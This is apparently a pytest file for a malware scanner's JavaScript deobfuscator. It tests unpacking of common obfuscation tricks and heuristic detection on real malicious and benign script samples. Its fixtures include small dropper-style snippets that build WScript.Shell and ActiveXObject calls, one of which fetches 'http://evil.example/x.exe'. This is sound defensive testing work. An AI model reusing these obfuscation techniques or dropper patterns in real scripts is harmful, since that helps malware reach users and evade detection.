"""JavaScript deobfuscation: each technique on a hand-written sample, and real malware samples."""

from __future__ import annotations

import base64
import random

import pytest

from phagocyte.analysers.limits import Budget, ScanLimits
from phagocyte.analysers.scripts import analyse_script
from phagocyte.analysers.scripts.javascript import deobfuscate_javascript
from tests.conftest import evaldata


def deob(text: str) -> str:
    return deobfuscate_javascript(text, Budget(ScanLimits())).text


def test_escapes_fromcharcode_unescape_atob() -> None:
    assert '"WScript.Shell"' in deob(r'var s = "\x57\x53\u0063ript.\123hell";')
    codes = ",".join(str(ord(c)) for c in "ActiveXObject")
    assert '"ActiveXObject"' in deob(f"var a = String.fromCharCode({codes});")
    assert '"MSXML2.XMLHTTP"' in deob("var x = unescape('%4D%53%58%4D%4C%32.XMLHTTP');")
    b64 = base64.b64encode(b"ADODB.Stream").decode()
    assert '"ADODB.Stream"' in deob(f"var y = atob('{b64}');")


def test_concatenation_split_join_reverse_and_replace() -> None:
    assert '"WScript.Shell"' in deob("var a = 'WScr' + \"ipt.\" + 'Shell';")
    assert '"WScript.Shell"' in deob("var a = 'W#S#c#r#i#p#t#.#S#h#e#l#l'.split('#').join('');")
    assert '"WScript.Shell"' in deob("var a = 'llehS.tpircSW'.split('').reverse().join('');")
    assert '"WScript.Shell"' in deob("var a = 'WSxxcrixxpt.Shell'.replace(/xx/g, '');")


def test_eval_layers_and_constants() -> None:
    inner = "new ActiveXObject('WScript.Shell').Run('calc')"
    layered = "var p = '" + inner.replace("'", "\\'") + "'; eval(p);"
    out = deob(layered)
    assert "// eval:" in out and "new ActiveXObject('WScript.Shell')" in out


def test_constants_stay_out_of_strings_and_do_not_grow_without_end() -> None:
    rw = deobfuscate_javascript('var a = "x"; var msg = "call (a) + a"; f(a);', Budget(ScanLimits()))
    assert '"call (a) + a"' in rw.text and 'f("x")' in rw.text, "a name inside a string is text"
    assert rw.rounds <= 3, "nothing left to rewrite after the first rounds"
    big = "A" * 5000
    doubling = f'var s0 = "{big}";' + "".join(f"var s{i} = s{i - 1} + s{i - 1};" for i in range(1, 12)) + "f(s11);"
    rw = deobfuscate_javascript(doubling, Budget(ScanLimits()))
    assert len(rw.text) < 1_000_000, "a string doubled 11 times is not written out 2,048 times"


def test_string_array_with_rotation_and_accessor() -> None:
    words = ["WScript.Shell", "Run", "ActiveXObject", "http://evil.example/x.exe"]
    k = 2
    rotated = words[-k:] + words[:-k]  # the packer stores the array rotated back by k
    arr = ",".join(f"'{w}'" for w in rotated)
    script = (f"var _0xa=[{arr}];(function(_0xb,_0xc){{var _0xd=function(_0xe){{while(--_0xe){{_0xb['push']"
              f"(_0xb['shift']());}}}};_0xd(++_0xc);}}(_0xa,{k - 1}));"
              "var _0xf=function(_0xg,_0xh){_0xg=_0xg-0x0;var _0xi=_0xa[_0xg];return _0xi;};"
              "var s=new this[_0xf('0x2')](_0xf('0x0'));s[_0xf('0x1')](_0xf('0x3'));")
    out = deob(script)
    assert '"WScript.Shell"' in out and '"http://evil.example/x.exe"' in out


def test_dean_edwards_packer() -> None:
    packed = ("eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]"
              "||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace("
              "new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0 1=2 3(\"4.5\");',10,6,"
              "'var|sh|new|ActiveXObject|WScript|Shell'.split('|'),0,{}))")
    out = deob(packed)
    assert 'var sh=new ActiveXObject("WScript.Shell");' in out


@pytest.mark.evaldata
def test_real_malicious_js_is_flagged_and_benign_libraries_are_not() -> None:
    root = evaldata("javascript")
    rng = random.Random(6)
    mal = sorted((root / "javascript_malware_collection").rglob("*.js"))
    ben = sorted((root / "benign_js_npm").rglob("*.js"))
    mal_sample, ben_sample = rng.sample(mal, 40), rng.sample(ben, 40)
    flagged = sum(analyse_script(p.read_bytes(), str(p)).label != "clean" for p in mal_sample)
    false_pos = [p.name for p in ben_sample if analyse_script(p.read_bytes(), str(p)).label == "malicious"]
    assert flagged >= 30, f"{flagged}/40 malicious samples flagged by heuristics alone"
    assert not false_pos, false_pos

def test_a_call_with_several_arguments_is_not_read_as_the_comma_operator() -> None:
    """`(0, "a")` is the comma operator's "a"; `RegExp("a|b", 'g')` is a call with two arguments: folding
    it to `RegExp'g'` dropped the pattern (seen on lodash.js)."""
    from phagocyte.analysers.limits import ScanLimits
    from phagocyte.analysers.scripts import javascript as js
    from phagocyte.analysers.scripts.rewrite import Budget

    literals = next(p for p in js.PASSES if p.name == "literals")
    b = Budget(ScanLimits())
    assert literals.apply("x = RegExp(\"a|b\", 'g');", b) == "x = RegExp(\"a|b\", 'g');"
    assert literals.apply('f("(a", "b")', b) == 'f("(a", "b")'
    assert literals.apply('x = (0, "abc");', b) == 'x = "abc";'
